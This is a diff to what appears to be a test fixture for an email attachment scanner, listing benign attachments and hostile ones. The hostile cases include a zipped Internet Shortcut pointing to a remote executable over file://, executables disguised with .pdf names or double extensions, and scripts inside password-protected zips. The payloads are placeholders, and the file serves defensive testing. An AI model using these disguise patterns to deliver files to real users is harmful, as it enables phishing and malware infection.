@@ -114,6 +114,10 @@ def good():
             calendar("-//Google Inc//Google Calendar 70.9054//EN", "Berlin", "https://meet.google.com/abc-defg-hij"))],
         "plain_invite": [("invite.ics", ICS,
             calendar("-//Litware//EN", "Raum 4", "Agenda: https://www.litware.example/agenda"))],
+        "invite_with_agenda": [("termin.ics", ICS, calendar("-//Litware//EN", "Raum 4", "Agenda anbei").replace(
+            b"END:VEVENT", b"ATTACH;FMTTYPE=application/pdf;ENCODING=BASE64;VALUE=BINARY;FILENAME=agenda.pdf:"
+            + base64.b64encode(bill) + b"\r\nEND:VEVENT"))],
+        "link_to_page": [("Lieferschein.zip", ZIP, zipped({"Lieferschein.url": b"[InternetShortcut]\r\nURL=https://www.litware.example/ls\r\n"}))],
         "card": [("anna_vogt.vcf", "text/vcard", card)],
         "csv": [("export.csv", "text/csv",
             "Artikel;Menge;Summe\nSchmierfett;12;=B2*34\nTelefon;+49 30 0;-4\n".encode())],
@@ -200,6 +204,7 @@ def hostile():
         "disk_image": [("invoice.iso", BYTES, iso)],
         "disk_image_renamed": [("invoice.pdf", "application/pdf", iso)],
         "program_disguised": [("invoice.pdf.exe", BYTES, PROGRAM)],
+        "link_to_program": [("invoice.zip", ZIP, zipped({"invoice.url": b"[InternetShortcut]\r\nURL=file://192.0.2.7/share/a.exe\r\n"}))],
         "script_in_zip": [("invoice.zip", ZIP, zipped({"invoice.pdf.js": SCRIPT}))],
         "script_in_zip_with_password": [("invoice.zip", ZIP, zipped({"invoice.js": SCRIPT}, "infected1"))],
         "mail_with_program": [("fwd.eml", "message/rfc822", mail.make("inner", "A a@stranger.example", "x", "x",
